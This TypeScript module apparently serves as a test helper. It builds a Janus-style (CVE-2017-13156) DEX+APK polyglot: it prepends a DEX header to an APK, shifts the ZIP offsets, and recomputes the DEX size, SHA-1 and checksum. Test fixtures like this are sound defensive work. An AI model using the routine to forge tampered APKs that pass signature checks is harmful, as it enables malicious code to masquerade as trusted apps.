/**
 * Builds a Janus-style DEX+APK polyglot (CVE-2017-13156, fdroidserver `tests/janus.apk`): a DEX
 * file in front of an APK, the ZIP's offsets moved by the DEX's length so they stay absolute file
 * offsets, and the DEX header's size, checksum and signature covering the whole file, as the Janus
 * proof of concept writes it.
 */
import { createHash } from 'node:crypto';

const DEX_HEADER_SIZE = 0x70;

/** Adler-32, the DEX header checksum. */
const adler32 = (bytes: Uint8Array): number => {
  let a = 1;
  let b = 0;
  for (const byte of bytes) {
    a = (a + byte) % 65521;
    b = (b + a) % 65521;
  }
  return ((b << 16) | a) >>> 0;
};

/** A minimal DEX header (no ids, no data) with the given padding after it. */
export const minimalDex = (padding = 0): Uint8Array => {
  const dex = Buffer.alloc(DEX_HEADER_SIZE + padding);
  dex.write('dex\n035\0', 0, 'latin1');
  dex.writeUInt32LE(DEX_HEADER_SIZE, 0x24); // header_size
  dex.writeUInt32LE(0x12345678, 0x28); // endian_tag
  return new Uint8Array(dex);
};

export interface PolyglotOptions {
  /** Move the ZIP's offsets by the prefix length (Janus does); false leaves them relative to the ZIP. */
  adjustOffsets?: boolean;
}

/** `prefix` + `apk`, with the central directory and end record offsets adjusted. Classic (non-ZIP64) ZIPs only. */
export const prependToApk = (
  apk: Uint8Array,
  prefix: Uint8Array,
  { adjustOffsets = true }: PolyglotOptions = {},
): Uint8Array => {
  const out = Buffer.concat([Buffer.from(prefix), Buffer.from(apk)]);
  const shift = prefix.length;
  if (adjustOffsets) {
    let eocd = -1;
    for (let i = out.length - 22; i >= Math.max(shift, out.length - 22 - 0xffff); i--) {
      if (out.readUInt32LE(i) === 0x06054b50 && out.readUInt16LE(i + 20) === out.length - i - 22) {
        eocd = i;
        break;
      }
    }
    if (eocd < 0) throw new Error('no end of central directory');
    const entries = out.readUInt16LE(eocd + 10);
    const cdOffset = out.readUInt32LE(eocd + 16) + shift;
    out.writeUInt32LE(cdOffset, eocd + 16);
    let p = cdOffset;
    for (let n = 0; n < entries; n++) {
      if (out.readUInt32LE(p) !== 0x02014b50) throw new Error(`bad central directory entry ${n}`);
      out.writeUInt32LE(out.readUInt32LE(p + 42) + shift, p + 42);
      p += 46 + out.readUInt16LE(p + 28) + out.readUInt16LE(p + 30) + out.readUInt16LE(p + 32);
    }
  }
  if (prefix.length >= DEX_HEADER_SIZE && out.subarray(0, 4).toString('latin1') === 'dex\n') {
    out.writeUInt32LE(out.length, 0x20); // file_size: the whole polyglot
    out.set(createHash('sha1').update(out.subarray(32)).digest(), 12);
    out.writeUInt32LE(adler32(out.subarray(12)), 8);
  }
  return new Uint8Array(out);
};
